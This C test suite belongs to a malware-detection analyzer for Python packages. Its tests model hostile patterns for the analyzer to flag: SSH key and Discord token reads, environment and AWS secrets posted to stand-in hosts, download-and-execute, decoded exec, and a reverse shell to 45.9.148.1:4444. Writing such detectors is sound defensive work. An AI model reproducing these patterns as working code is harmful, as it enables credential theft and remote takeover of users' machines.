/* SPDX-License-Identifier: Apache-2.0 */
#include "capabilities/ids.h"
#include "engine/join/join.h"
#include "tap.h"

/* --- records by hand: what evaluation would say of a few lines of Python --- */

typedef struct unit_builder {
    tw_arena *a;
    TW_VEC(tw_str) strings;
    TW_VEC(tw_val) vals;
    TW_VEC(uint32_t) lists;
    TW_VEC(tw_rec_arg) args;
    TW_VEC(tw_rec_call) calls;
    TW_VEC(tw_rec_func) funcs;
    TW_VEC(tw_rec_import) imports;
    TW_VEC(tw_rec_bind) binds;
    TW_VEC(tw_rec_store) stores;
    TW_VEC(tw_rec_layer) layers;
    uint32_t off;
    uint32_t func; /* calls go into this function */
    uint16_t flags;
    tw_record rec;
} ub;

static ub *ub_new(tw_arena *a)
{
    ub *b = TW_NEW(a, ub);
    b->a = a;
    TW_PUSH(a, b->strings, TW_S(""));
    TW_PUSH(a, b->vals, ((tw_val){0}));
    TW_PUSH(a, b->funcs, ((tw_rec_func){.parent = TW_NONE, .kind = TW_REGION_MODULE}));
    return b;
}

static uint32_t s(ub *b, const char *text)
{
    for (uint32_t i = 0; i < b->strings.n; i++)
        if (tw_str_eq(b->strings.v[i], tw_str_c(text))) return i;
    TW_PUSH(b->a, b->strings, tw_str_c(text));
    return b->strings.n - 1;
}

static uint32_t val(ub *b, tw_val_kind kind, uint32_t x, uint32_t y)
{
    TW_PUSH(b->a, b->vals, ((tw_val){.kind = (uint8_t)kind, .a = x, .b = y}));
    return b->vals.n - 1;
}
static uint32_t str(ub *b, const char *text)
{
    return val(b, TW_VAL_STR, s(b, text), 0);
}
static uint32_t sym(ub *b, const char *name)
{
    return val(b, TW_VAL_SYMBOL, s(b, name), 0);
}
static uint32_t member(ub *b, uint32_t base, const char *name)
{
    return val(b, TW_VAL_MEMBER, base, s(b, name));
}

static uint32_t list(ub *b, tw_val_kind kind, uint32_t n, const uint32_t *items)
{
    uint32_t v = val(b, kind, 0, kind == TW_VAL_OP ? s(b, "+") : 0);
    b->vals.v[v].list = b->lists.n;
    b->vals.v[v].n = n;
    for (uint32_t i = 0; i < n; i++) TW_PUSH(b->a, b->lists, items[i]);
    return v;
}
#define LIST(b, kind, ...) list(b, kind, sizeof((uint32_t[]){__VA_ARGS__}) / 4, (uint32_t[]){__VA_ARGS__})

static uint32_t func(ub *b, const char *qual, tw_region kind, uint32_t parent, uint32_t n_params)
{
    tw_rec_func f = {
        .qual = s(b, qual), .name = s(b, qual), .kind = (uint8_t)kind, .parent = parent, .off = ++b->off};
    f.params = b->lists.n;
    f.n_params = n_params;
    for (uint32_t i = 0; i < n_params; i++)
        TW_PUSH(b->a, b->lists, s(b, i == 0 ? "p0" : i == 1 ? "p1" : "p2"));
    TW_PUSH(b->a, b->funcs, f);
    return b->funcs.n - 1;
}

static void returns(ub *b, uint32_t f, uint32_t v)
{
    b->funcs.v[f].returns = b->lists.n;
    b->funcs.v[f].n_returns = 1;
    TW_PUSH(b->a, b->lists, v);
}

static void base(ub *b, uint32_t f, uint32_t v)
{
    b->funcs.v[f].bases = b->lists.n;
    b->funcs.v[f].n_bases = 1;
    TW_PUSH(b->a, b->lists, v);
}

/* Result of callee(args...); keyword "k" for args[i] when names[i]. */
static uint32_t call_named(ub *b, uint32_t callee, const char *symbol, uint32_t n, const uint32_t *args,
                           const char *const *names)
{
    uint32_t c = b->calls.n, result = val(b, TW_VAL_CALL, c, 0);
    tw_rec_call call = {.func = b->func,
                        .callee = callee,
                        .symbol = symbol ? s(b, symbol) : 0,
                        .args = b->args.n,
                        .n_args = n,
                        .result = result,
                        .flags = b->flags,
                        .off = b->off += 10,
                        .len = 5};
    for (uint32_t i = 0; i < n; i++)
        TW_PUSH(b->a, b->args, ((tw_rec_arg){args[i], names && names[i] ? s(b, names[i]) : 0}));
    TW_PUSH(b->a, b->calls, call);
    return result;
}
#define ARGS(...)                                       \
    sizeof((uint32_t[]){__VA_ARGS__}) / 4, (uint32_t[]) \
    {                                                   \
        __VA_ARGS__                                     \
    }
static uint32_t call(ub *b, const char *symbol, uint32_t n, const uint32_t *args)
{
    return call_named(b, sym(b, symbol), symbol, n, args, NULL);
}
static uint32_t method(ub *b, uint32_t self, const char *name, const char *symbol, uint32_t n,
                       const uint32_t *args)
{
    return call_named(b, member(b, self, name), symbol, n, args, NULL);
}
static uint32_t call_func(ub *b, uint32_t f, uint32_t n, const uint32_t *args)
{
    return call_named(b, val(b, TW_VAL_FUNC, f, 0), NULL, n, args, NULL);
}
static void import(ub *b, const char *module, const char *name, uint8_t level)
{
    tw_rec_import im = {.module = *module ? s(b, module) : 0,
                        .name = *name ? s(b, name) : 0,
                        .func = b->func,
                        .level = level};
    TW_PUSH(b->a, b->imports, im);
}
static void bind(ub *b, const char *name, uint32_t v)
{
    TW_PUSH(b->a, b->binds, ((tw_rec_bind){0, s(b, name), v, b->off}));
}

static const tw_record *finish(ub *b)
{
    b->rec = (tw_record){.lang = TW_LANG_PYTHON,
                         .strings = b->strings.v,
                         .n_strings = b->strings.n,
                         .vals = b->vals.v,
                         .n_vals = b->vals.n,
                         .lists = b->lists.v,
                         .n_lists = b->lists.n,
                         .args = b->args.v,
                         .n_args = b->args.n,
                         .calls = b->calls.v,
                         .n_calls = b->calls.n,
                         .funcs = b->funcs.v,
                         .n_funcs = b->funcs.n,
                         .imports = b->imports.v,
                         .n_imports = b->imports.n,
                         .binds = b->binds.v,
                         .n_binds = b->binds.n,
                         .stores = b->stores.v,
                         .n_stores = b->stores.n,
                         .layers = b->layers.v,
                         .n_layers = b->layers.n};
    return &b->rec;
}

/* --- a package --- */

enum { FILES = 4 };
typedef struct world {
    tw_arena *a;
    ub *file[FILES];
    tw_member members[FILES];
    tw_str module[FILES];
    uint8_t role[FILES];
    tw_package p;
    tw_unit units[FILES + 2];
    uint32_t n_units;
    tw_limits limits;
    tw_coverage coverage;
    tw_join j;
} world;

/* setup.py, pkg/__init__.py, pkg/helper.py, tests/test_a.py */
static world *world_new(void)
{
    static const char *const paths[] = {"setup.py", "pkg/__init__.py", "pkg/helper.py", "tests/test_a.py"};
    static const char *const modules[] = {"setup", "pkg", "pkg.helper", "tests.test_a"};
    static const uint8_t roles[] = {TW_ROLE_BUILD, TW_ROLE_CODE, TW_ROLE_CODE, TW_ROLE_TEST};
    tw_arena *a = tw_arena_new(0);
    world *w = TW_NEW(a, world);
    w->a = a;
    for (uint32_t i = 0; i < FILES; i++) {
        w->file[i] = ub_new(a);
        w->members[i] = (tw_member){.index = i, .path = tw_str_c(paths[i])};
        w->module[i] = tw_str_c(modules[i]);
        w->role[i] = roles[i];
    }
    w->p = (tw_package){
        .arena = a, .members = w->members, .n_members = FILES, .module = w->module, .role = w->role};
    TW_PUSH(a, w->p.roots, ((tw_root){0, TW_S(""), TW_TRIGGER_INSTALL, TW_S("setup.py")}));
    TW_PUSH(a, w->p.roots, ((tw_root){1, TW_S(""), TW_TRIGGER_IMPORT, TW_S("import of the package")}));
    w->limits = tw_limits_default();
    tw_coverage_init(&w->coverage, a);
    w->n_units = FILES;
    for (uint32_t i = 0; i < FILES; i++)
        w->units[i] = (tw_unit){.member = i, .parent = TW_NONE, .layer = TW_NONE};
    return w;
}

static void add_layer(world *w, uint32_t parent, uint32_t c, const char *recipe, bool executed, ub *inner)
{
    ub *b = w->file[parent];
    TW_PUSH(
        w->a, b->layers,
        ((tw_rec_layer){.call = c, .recipe = s(b, recipe), .lang = TW_LANG_PYTHON, .executed = executed}));
    w->units[w->n_units++] = (tw_unit){
        .member = parent, .parent = parent, .layer = b->layers.n - 1, .depth = 1, .record = finish(inner)};
}

static void run(world *w)
{
    for (uint32_t i = 0; i < FILES; i++) w->units[i].record = finish(w->file[i]);
    w->j = (tw_join){.arena = w->a,
                     .package = &w->p,
                     .units = w->units,
                     .n_units = w->n_units,
                     .coverage = &w->coverage,
                     .limits = &w->limits};
    tw_join_run(&w->j);
}

static const tw_cap_use *use_in(const world *w, uint32_t unit, tw_cap cap)
{
    for (uint32_t i = 0; i < w->j.uses.n; i++)
        if (w->j.uses.v[i].cap == cap && w->j.uses.v[i].place.unit == unit) return &w->j.uses.v[i];
    return NULL;
}

static const tw_flow *flow(const world *w, tw_cap from, tw_cap to)
{
    for (uint32_t i = 0; i < w->j.flows.n; i++) {
        const tw_flow *f = &w->j.flows.v[i];
        if (w->j.uses.v[f->from].cap == from && w->j.uses.v[f->to].cap == to) return f;
    }
    return NULL;
}
#define CHECK_TRIGGER(u, t)                \
    do {                                   \
        const tw_cap_use *u_ = (u);        \
        CHECK(u_ != NULL);                 \
        if (u_) CHECK_INT(u_->trigger, t); \
    } while (0)

/* --- reach --- */

TEST(triggers_of_files)
{
    world *w = world_new();
    for (uint32_t i = 0; i < FILES; i++) call(w->file[i], "os.system", ARGS(str(w->file[i], "make all")));
    run(w);
    CHECK_TRIGGER(use_in(w, 0, TW_CAP_EXEC_SHELL), TW_TRIGGER_INSTALL);
    CHECK_TRIGGER(use_in(w, 1, TW_CAP_EXEC_SHELL), TW_TRIGGER_IMPORT);
    CHECK_TRIGGER(use_in(w, 2, TW_CAP_EXEC_SHELL), TW_TRIGGER_COMMAND); /* no root names it */
    CHECK_TRIGGER(use_in(w, 3, TW_CAP_EXEC_SHELL), TW_TRIGGER_DEAD);
    CHECK_STR(use_in(w, 0, TW_CAP_EXEC_SHELL)->reason, TW_S("setup.py"));
    CHECK_STR(use_in(w, 0, TW_CAP_EXEC_SHELL)->values[0].text, TW_S("make all"));
    CHECK_INT(use_in(w, 0, TW_CAP_EXEC_SHELL)->values[0].role, TW_ARGROLE_COMMAND);
    CHECK_INT(w->j.uses.n, 4);
    CHECK_INT(w->j.triggers[TW_TRIGGER_INSTALL], 1);
    CHECK_INT(w->j.triggers[TW_TRIGGER_DEAD], 1);
    CHECK_INT(w->j.func_trigger[1][0], TW_TRIGGER_IMPORT);
    tw_arena_free(w->a);
}

/* setup.py: from pkg import go; go()  --  pkg/__init__.py: from .helper import run as go */
TEST(re_exports_are_followed)
{
    world *w = world_new();
    ub *init = w->file[1], *helper = w->file[2];
    uint32_t f = func(helper, "run", TW_REGION_FUNCTION, 0, 0);
    helper->func = f;
    call(helper, "os.system", ARGS(str(helper, "x")));
    import(init, "helper", "run", 1);
    bind(init, "go", sym(init, ".helper.run"));
    import(w->file[0], "pkg", "go", 0);
    call(w->file[0], "pkg.go", 0, NULL);
    run(w);
    CHECK_TRIGGER(use_in(w, 2, TW_CAP_EXEC_SHELL), TW_TRIGGER_INSTALL);
    CHECK_STR(use_in(w, 2, TW_CAP_EXEC_SHELL)->reason, TW_S("setup.py, by setup"));
    tw_arena_free(w->a);
}

TEST(imports_run_modules_and_handed_functions)
{
    world *w = world_new();
    ub *init = w->file[1], *helper = w->file[2];
    uint32_t thread = func(helper, "work", TW_REGION_FUNCTION, 0, 0);
    uint32_t idle = func(helper, "idle", TW_REGION_FUNCTION, 0, 0);
    const char *names[] = {"target"};
    import(init, "", "helper", 1);
    call_named(helper, sym(helper, "threading.Thread"), "threading.Thread",
               ARGS(val(helper, TW_VAL_FUNC, thread, 0)), names);
    helper->func = thread;
    call(helper, "os.system", ARGS(str(helper, "x")));
    helper->func = idle;
    call(helper, "os.remove", ARGS(str(helper, "x")));
    run(w);
    CHECK_TRIGGER(use_in(w, 2, TW_CAP_EXEC_SHELL), TW_TRIGGER_IMPORT);
    CHECK_TRIGGER(use_in(w, 2, TW_CAP_FS_DELETE), TW_TRIGGER_CALL);
    tw_arena_free(w->a);
}

/* helper.py: def later(f): keep(f)    def now(f): f() */
TEST(callbacks_run_where_they_are_called)
{
    world *w = world_new();
    ub *b = w->file[1], *h = w->file[2];
    uint32_t later = func(h, "later", TW_REGION_FUNCTION, 0, 1),
             now = func(h, "now", TW_REGION_FUNCTION, 0, 1);
    h->func = later;
    call(h, "strange.keep", ARGS(val(h, TW_VAL_PARAM, later, 0)));
    h->func = now;
    call_named(h, val(h, TW_VAL_PARAM, now, 0), NULL, 0, NULL, NULL);
    uint32_t kept = func(b, "kept", TW_REGION_FUNCTION, 0, 0),
             used = func(b, "used", TW_REGION_FUNCTION, 0, 0);
    call(b, ".helper.later", ARGS(val(b, TW_VAL_FUNC, kept, 0)));
    call(b, ".helper.now", ARGS(val(b, TW_VAL_FUNC, used, 0)));
    b->func = kept;
    call(b, "os.system", ARGS(str(b, "x")));
    b->func = used;
    call(b, "os.remove", ARGS(str(b, "x")));
    run(w);
    CHECK_TRIGGER(use_in(w, 1, TW_CAP_EXEC_SHELL), TW_TRIGGER_CALL);
    CHECK_TRIGGER(use_in(w, 1, TW_CAP_FS_DELETE), TW_TRIGGER_IMPORT);
    tw_arena_free(w->a);
}

TEST(main_guards)
{
    world *w = world_new();
    for (uint32_t i = 0; i < 2; i++) {
        w->file[i]->flags = TW_RC_MAIN_GUARD;
        call(w->file[i], "os.system", ARGS(str(w->file[i], "x")));
    }
    run(w);
    CHECK_TRIGGER(use_in(w, 0, TW_CAP_EXEC_SHELL), TW_TRIGGER_INSTALL); /* setup.py is run as __main__ */
    CHECK_TRIGGER(use_in(w, 1, TW_CAP_EXEC_SHELL), TW_TRIGGER_COMMAND);
    tw_arena_free(w->a);
}

static tw_trigger trigger_of_command(const char *base_name)
{
    world *w = world_new();
    ub *b = w->file[0];
    uint32_t cls = func(b, "Cmd", TW_REGION_CLASS, 0, 0);
    base(b, cls, sym(b, base_name));
    b->func = func(b, "Cmd.run", TW_REGION_FUNCTION, cls, 1);
    call(b, "os.system", ARGS(str(b, "x")));
    run(w);
    const tw_cap_use *u = use_in(w, 0, TW_CAP_EXEC_SHELL);
    tw_trigger t = u ? (tw_trigger)u->trigger : TW_TRIGGER_MAX;
    if (t == TW_TRIGGER_INSTALL) CHECK_STR(u->reason, TW_S("cmdclass"));
    tw_arena_free(w->a);
    return t;
}

TEST(command_classes)
{
    CHECK_INT(trigger_of_command("setuptools.command.install.install"), TW_TRIGGER_INSTALL);
    CHECK_INT(trigger_of_command("distutils.command.build_py.build_py"), TW_TRIGGER_INSTALL);
    CHECK_INT(trigger_of_command("setuptools.command.test.test"), TW_TRIGGER_COMMAND);
    CHECK_INT(trigger_of_command("setuptools.Command"), TW_TRIGGER_COMMAND);
    CHECK_INT(trigger_of_command("object"), TW_TRIGGER_CALL);
}

TEST(instances_and_inherited_methods)
{
    world *w = world_new();
    ub *b = w->file[1], *helper = w->file[2];
    uint32_t parent = func(helper, "Base", TW_REGION_CLASS, 0, 0);
    helper->func = func(helper, "Base.__init__", TW_REGION_FUNCTION, parent, 1);
    method(helper, val(helper, TW_VAL_PARAM, helper->func, 0), "go", "?.go", 0, NULL);
    helper->func = func(helper, "Base.go", TW_REGION_FUNCTION, parent, 1);
    call(helper, "os.system", ARGS(str(helper, "x")));
    uint32_t child = func(b, "Child", TW_REGION_CLASS, 0, 0);
    base(b, child, sym(b, ".helper.Base"));
    call_func(b, child, 0, NULL);
    run(w);
    CHECK_TRIGGER(use_in(w, 2, TW_CAP_EXEC_SHELL), TW_TRIGGER_IMPORT);
    tw_arena_free(w->a);
}

TEST(layers_take_the_trigger_of_their_call)
{
    for (int executed = 0; executed < 2; executed++) {
        world *w = world_new();
        ub *inner = ub_new(w->a);
        call(inner, "os.system", ARGS(str(inner, "x")));
        call(w->file[0], "exec", ARGS(str(w->file[0], "...")));
        add_layer(w, 0, 0, "base64 > zlib > hex", executed != 0, inner);
        run(w);
        CHECK_TRIGGER(use_in(w, FILES, TW_CAP_EXEC_SHELL), executed ? TW_TRIGGER_INSTALL : TW_TRIGGER_CALL);
        CHECK((use_in(w, 0, TW_CAP_CODE_DECODED_EVAL) != NULL) == executed);
        CHECK((use_in(w, 0, TW_CAP_HIDE_LAYERS) != NULL) == executed);
        CHECK(!use_in(w, 0, TW_CAP_CODE_EVAL)); /* the code is known: it is the layer */
        tw_arena_free(w->a);
    }
}

/* --- uses --- */

TEST(conditions_of_rows)
{
    world *w = world_new();
    ub *b = w->file[1];
    const char *shell[] = {NULL, "shell"}, *mode[] = {NULL, NULL};
    call_named(b, sym(b, "subprocess.run"), "subprocess.run", ARGS(str(b, "a b"), val(b, TW_VAL_BOOL, 1, 0)),
               shell);
    run(w);
    CHECK(use_in(w, 1, TW_CAP_EXEC_SHELL) && !use_in(w, 1, TW_CAP_EXEC_PROCESS));
    tw_arena_free(w->a);

    w = world_new();
    b = w->file[1];
    call(b, "subprocess.run", ARGS(LIST(b, TW_VAL_SEQ, str(b, "git"), str(b, "status"))));
    call_named(b, sym(b, "open"), "open", ARGS(str(b, "out.bin"), str(b, "wb")), mode);
    call(b, "open", ARGS(str(b, "in.txt")));
    run(w);
    CHECK(!use_in(w, 1, TW_CAP_EXEC_SHELL) && use_in(w, 1, TW_CAP_EXEC_PROCESS));
    CHECK_STR(use_in(w, 1, TW_CAP_EXEC_PROCESS)->values[0].text, TW_S("git status"));
    CHECK_STR(use_in(w, 1, TW_CAP_FS_WRITE)->values[0].text, TW_S("out.bin"));
    CHECK_STR(use_in(w, 1, TW_CAP_FS_READ)->values[0].text, TW_S("in.txt"));
    CHECK_INT(w->j.uses.n, 3);
    tw_arena_free(w->a);
}

TEST(modes_and_tests_of_the_environment)
{
    world *w = world_new();
    ub *b = w->file[1];
    call(b, "os.chmod", ARGS(str(b, "a"), val(b, TW_VAL_INT, 0600, 0)));
    uint32_t test = LIST(b, TW_VAL_OP, str(b, "CI"), sym(b, "os.environ"));
    b->vals.v[test].b = s(b, "in");
    call(b, "strange.check", ARGS(test));
    bind(b, "environ", sym(b, "os.environ"));
    run(w);
    CHECK(!use_in(w, 1, TW_CAP_FS_MAKE_EXEC) && !use_in(w, 1, TW_CAP_CRED_ENV_ALL));
    call(b, "os.chmod", ARGS(str(b, "a"), LIST(b, TW_VAL_OP, sym(b, "x"), sym(b, "stat.S_IEXEC"))));
    run(w);
    CHECK(use_in(w, 1, TW_CAP_FS_MAKE_EXEC) != NULL);
    tw_arena_free(w->a);
}

/* open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")) */
TEST(paths_are_put_together)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t home = call(b, "os.path.expanduser", ARGS(str(b, "~")));
    uint32_t path = call(b, "os.path.join", ARGS(home, str(b, ".ssh"), str(b, "id_rsa")));
    call(b, "open", ARGS(path));
    run(w);
    const tw_cap_use *read = use_in(w, 1, TW_CAP_FS_READ);
    CHECK(read && read->n_values == 1);
    CHECK_STR(read->values[0].text, TW_S("~/.ssh/id_rsa"));
    CHECK(use_in(w, 1, TW_CAP_CRED_SSH_GPG) != NULL);
    CHECK_STR(tw_str_c(use_in(w, 1, TW_CAP_CRED_SSH_GPG)->label), TW_S("SSH keys"));
    tw_arena_free(w->a);
}

/* def grab(p): open(p + "\\Local Storage\\leveldb")    grab(os.getenv("APPDATA") + "\\discord") */
TEST(paths_through_parameters)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t f = func(b, "grab", TW_REGION_FUNCTION, 0, 1);
    b->func = f;
    uint32_t p = val(b, TW_VAL_PARAM, f, 0);
    call(b, "open", ARGS(LIST(b, TW_VAL_CONCAT, p, str(b, "\\Local Storage\\leveldb"))));
    b->func = 0;
    uint32_t appdata = call(b, "os.getenv", ARGS(str(b, "APPDATA")));
    call_func(b, f, ARGS(LIST(b, TW_VAL_CONCAT, appdata, str(b, "\\discord"))));
    run(w);
    const tw_cap_use *read = use_in(w, 1, TW_CAP_FS_READ);
    CHECK(read != NULL);
    CHECK_STR(read->values[0].text, TW_S("%APPDATA%\\discord\\Local Storage\\leveldb"));
    CHECK(use_in(w, 1, TW_CAP_CRED_CHAT) && use_in(w, 1, TW_CAP_CRED_BROWSER));
    CHECK_INT(use_in(w, 1, TW_CAP_CRED_BROWSER)->confidence, TW_CONF_FLOW);
    CHECK_TRIGGER(read, TW_TRIGGER_IMPORT);
    tw_arena_free(w->a);
}

TEST(hosts_of_urls)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t url = LIST(b, TW_VAL_CONCAT, str(b, "http://45.9.148.1:8080/"), val(b, TW_VAL_UNKNOWN, 0, 0));
    call(b, "requests.get", ARGS(url));
    call(b, "requests.post", ARGS(str(b, "https://chat.example/api/webhooks/1/x")));
    call(b, "requests.get", ARGS(str(b, "http://10.0.0.1/")));
    run(w);
    const tw_cap_use *ip = use_in(w, 1, TW_CAP_NET_IP_HOST);
    CHECK(ip && ip->values[0].partial && ip->source && ip->sink);
    CHECK_STR(ip->values[0].text, TW_S("http://45.9.148.1:8080/{}"));
    CHECK(use_in(w, 1, TW_CAP_NET_WEBHOOK) != NULL);
    int n = 0;
    for (uint32_t i = 0; i < w->j.uses.n; i++) n += w->j.uses.v[i].cap == TW_CAP_NET_IP_HOST;
    CHECK_INT(n, 1);
    tw_arena_free(w->a);
}

TEST(environment)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t environ = sym(b, "os.environ");
    call(b, "json.dumps", ARGS(val(b, TW_VAL_INDEX, environ, str(b, "GITHUB_TOKEN"))));
    call(b, "os.getenv", ARGS(str(b, "PATH")));
    run(w);
    CHECK(use_in(w, 1, TW_CAP_CRED_FORGE) != NULL);
    CHECK(!use_in(w, 1, TW_CAP_CRED_ENV_ALL));
    tw_arena_free(w->a);

    w = world_new();
    b = w->file[1];
    call(b, "dict", ARGS(sym(b, "os.environ")));
    run(w);
    CHECK(use_in(w, 1, TW_CAP_CRED_ENV_ALL) && use_in(w, 1, TW_CAP_CRED_ENV_ALL)->source);
    CHECK_INT(w->j.uses.n, 1);
    tw_arena_free(w->a);
}

/* --- flows --- */

/* requests.post(u, data=json.dumps(dict(os.environ))) */
TEST(flow_in_one_line)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t dumped = call(b, "json.dumps", ARGS(call(b, "dict", ARGS(sym(b, "os.environ")))));
    const char *names[] = {NULL, "data"};
    call_named(b, sym(b, "requests.post"), "requests.post", ARGS(str(b, "https://h.example/"), dumped),
               names);
    run(w);
    const tw_flow *f = flow(w, TW_CAP_CRED_ENV_ALL, TW_CAP_NET_HTTP);
    CHECK(f != NULL);
    if (f) {
        CHECK_INT(f->scope, 0);
        CHECK_INT(f->confidence, TW_CONF_FLOW);
        CHECK_INT(f->n_path, 3); /* dict, json.dumps, requests.post */
    }
    tw_arena_free(w->a);
}

TEST(long_paths_keep_both_ends)
{
    for (uint32_t n = 5; n < 40; n += 7) {
        world *w = world_new();
        ub *b = w->file[1];
        uint32_t v = sym(b, "os.environ");
        for (uint32_t i = 0; i < n; i++) v = call(b, "json.dumps", ARGS(v));
        call(b, "requests.post", ARGS(str(b, "https://h.example/"), v));
        run(w);
        const tw_flow *f = flow(w, TW_CAP_CRED_ENV_ALL, TW_CAP_NET_HTTP);
        CHECK(f != NULL);
        CHECK_INT(f->n_path, n + 1 < 12 ? n + 1 : 12);
        for (uint32_t i = 0; i < f->n_path; i++) { /* call k stands at offset 10 (k + 1) */
            uint32_t place = f->n_path < 12 || i < 6 ? i : n + 1 - 12 + i;
            CHECK_INT(f->path[i].off, 10 * (place + 1));
        }
        tw_arena_free(w->a);
    }
}

TEST(length_does_not_carry)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t n = call(b, "len", ARGS(sym(b, "os.environ")));
    call(b, "requests.post", ARGS(str(b, "https://h.example/"), n));
    run(w);
    CHECK(!flow(w, TW_CAP_CRED_ENV_ALL, TW_CAP_NET_HTTP));
    tw_arena_free(w->a);
}

TEST(unknown_calls_carry_with_doubt)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t packed = call(b, "strange.pack", ARGS(sym(b, "os.environ")));
    call(b, "requests.post", ARGS(str(b, "https://h.example/"), packed));
    run(w);
    const tw_flow *f = flow(w, TW_CAP_CRED_ENV_ALL, TW_CAP_NET_HTTP);
    CHECK(f && f->confidence == TW_CONF_GUESSED);
    tw_arena_free(w->a);
}

/* helper.py: def read(): return open("~/.ssh/id_rsa").read()    def send(x): requests.post(u, x)
 * __init__.py: send(read()) */
TEST(flow_across_files)
{
    world *w = world_new();
    ub *b = w->file[1], *h = w->file[2];
    uint32_t reader = func(h, "read", TW_REGION_FUNCTION, 0, 0),
             sender = func(h, "send", TW_REGION_FUNCTION, 0, 1);
    h->func = reader;
    uint32_t file = call(h, "open", ARGS(str(h, "~/.ssh/id_rsa")));
    returns(h, reader, method(h, file, "read", "open().read", 0, NULL));
    h->func = sender;
    call(h, "requests.post", ARGS(str(h, "https://h.example/"), val(h, TW_VAL_PARAM, sender, 0)));
    uint32_t got = call(b, ".helper.read", 0, NULL);
    call(b, ".helper.send", ARGS(got));
    run(w);
    const tw_flow *f = flow(w, TW_CAP_CRED_SSH_GPG, TW_CAP_NET_HTTP);
    CHECK(f != NULL);
    if (f) {
        CHECK_INT(f->scope, 1); /* both ends in helper.py */
        CHECK_INT(f->confidence, TW_CONF_FLOW);
    }
    CHECK_TRIGGER(use_in(w, 2, TW_CAP_NET_HTTP), TW_TRIGGER_IMPORT);
    tw_arena_free(w->a);
}

TEST(flow_through_module_constant_and_attribute)
{
    world *w = world_new();
    ub *b = w->file[1], *h = w->file[2];
    uint32_t secret = call(h, "os.getenv", ARGS(str(h, "AWS_SECRET_ACCESS_KEY")));
    bind(h, "KEY", secret);
    uint32_t cls = func(b, "C", TW_REGION_CLASS, 0, 0);
    uint32_t init = func(b, "C.__init__", TW_REGION_FUNCTION, cls, 1),
             go = func(b, "C.go", TW_REGION_FUNCTION, cls, 1);
    TW_PUSH(w->a, b->stores,
            ((tw_rec_store){.func = init,
                            .base = val(b, TW_VAL_PARAM, init, 0),
                            .name = s(b, "key"),
                            .value = sym(b, ".helper.KEY")}));
    b->func = go;
    call(b, "requests.post",
         ARGS(str(b, "https://h.example/"), member(b, val(b, TW_VAL_PARAM, go, 0), "key")));
    run(w);
    const tw_flow *f = flow(w, TW_CAP_CRED_CLOUD, TW_CAP_NET_HTTP);
    CHECK(f && f->scope == 2 && f->confidence == TW_CONF_FLOW);
    tw_arena_free(w->a);
}

/* d = requests.get(u).content; open(p, "wb").write(d); subprocess.Popen([p]) */
TEST(downloaded_and_run)
{
    for (int known = 0; known < 2; known++) {
        world *w = world_new();
        ub *b = w->file[0];
        uint32_t data = member(b, call(b, "requests.get", ARGS(str(b, "https://h.example/a"))), "content");
        uint32_t path = known ? str(b, "/tmp/a.bin") : call(b, "strange.name", 0, NULL);
        uint32_t file = call(b, "open", ARGS(path, str(b, "wb")));
        method(b, file, "write", "open().write", ARGS(data));
        call(b, "subprocess.Popen", ARGS(LIST(b, TW_VAL_SEQ, path)));
        run(w);
        CHECK(flow(w, TW_CAP_NET_HTTP, TW_CAP_FS_WRITE) != NULL);
        CHECK(flow(w, TW_CAP_NET_HTTP, TW_CAP_EXEC_DOWNLOADED) != NULL);
        CHECK_TRIGGER(use_in(w, 0, TW_CAP_EXEC_DOWNLOADED), TW_TRIGGER_INSTALL);
        tw_arena_free(w->a);
    }
}

TEST(remote_and_decoded_code)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t text = member(b, call(b, "requests.get", ARGS(str(b, "https://h.example/a"))), "text");
    call(b, "exec", ARGS(call(b, "base64.b64decode", ARGS(text))));
    call(b, "exec", ARGS(call(b, "open", ARGS(str(b, "x.py")))));
    run(w);
    CHECK(flow(w, TW_CAP_NET_HTTP, TW_CAP_CODE_EVAL) != NULL);
    CHECK(flow(w, TW_CAP_NET_HTTP, TW_CAP_CODE_REMOTE_EVAL) != NULL);
    CHECK(flow(w, TW_CAP_FS_READ, TW_CAP_CODE_FILE_EVAL) != NULL);
    int decoded = 0;
    for (uint32_t i = 0; i < w->j.uses.n; i++) decoded += w->j.uses.v[i].cap == TW_CAP_CODE_DECODED_EVAL;
    CHECK_INT(decoded, 1);
    tw_arena_free(w->a);
}

TEST(reverse_shell)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t sock = call(b, "socket.socket", 0, NULL);
    uint32_t addr = LIST(b, TW_VAL_SEQ, str(b, "45.9.148.1"), val(b, TW_VAL_INT, 4444, 0));
    method(b, sock, "connect", "socket.socket().connect", ARGS(addr));
    call(b, "os.dup2",
         ARGS(method(b, sock, "fileno", "socket.socket().fileno", 0, NULL), val(b, TW_VAL_INT, 0, 0)));
    call(b, "subprocess.call", ARGS(LIST(b, TW_VAL_SEQ, str(b, "/bin/sh"))));
    run(w);
    CHECK(use_in(w, 1, TW_CAP_NET_REVERSE_SHELL) != NULL);
    CHECK(use_in(w, 1, TW_CAP_NET_IP_HOST) != NULL);
    CHECK_STR(use_in(w, 1, TW_CAP_NET_SOCKET)->values[0].text, TW_S("45.9.148.1:4444"));
    tw_arena_free(w->a);
}

TEST(own_programs_and_own_files)
{
    world *w = world_new();
    ub *b = w->file[1];
    w->members[2].path = TW_S("pkg/bin/tool.exe");
    uint32_t here = call(b, "os.path.dirname", ARGS(sym(b, "__file__")));
    call(b, "subprocess.Popen",
         ARGS(LIST(b, TW_VAL_SEQ, call(b, "os.path.join", ARGS(here, str(b, "bin\\tool.exe"))),
                   str(b, "-q"))));
    call(b, "os.remove", ARGS(call(b, "os.path.realpath", ARGS(sym(b, "__file__")))));
    call(b, "os.remove", ARGS(call(b, "os.path.join", ARGS(here, str(b, "x")))));
    call(b, "os.system", ARGS(str(b, "other.exe")));
    run(w);
    int bundled = 0, own = 0;
    for (uint32_t i = 0; i < w->j.uses.n; i++) {
        bundled += w->j.uses.v[i].cap == TW_CAP_EXEC_BUNDLED;
        own += w->j.uses.v[i].cap == TW_CAP_FS_SELF_DELETE;
    }
    CHECK_INT(bundled, 1);
    CHECK_INT(own, 1);
    tw_arena_free(w->a);
}

TEST(order_is_total)
{
    world *w = world_new();
    for (uint32_t i = 0; i < FILES; i++)
